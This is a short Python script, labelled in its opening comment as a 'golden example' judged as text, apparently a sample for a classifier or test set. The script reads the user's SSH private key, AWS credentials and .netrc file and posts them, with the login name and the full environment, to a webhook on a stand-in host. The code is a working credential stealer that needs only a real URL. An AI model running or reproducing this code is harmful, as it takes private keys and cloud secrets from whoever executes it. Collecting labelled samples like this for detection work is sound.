# Golden example: reads secrets and sends them. Judged as text, never run.
import os
import requests

HOOK = "https://example.invalid/api/webhooks/1/x"
found = []
for name in (".ssh/id_rsa", ".aws/credentials", ".netrc"):
    path = os.path.join(os.path.expanduser("~"), name)
    if os.path.exists(path):
        found.append(open(path).read())
requests.post(HOOK, json={"content": "\n".join(found), "user": os.getlogin(),
                          "env": dict(os.environ)})
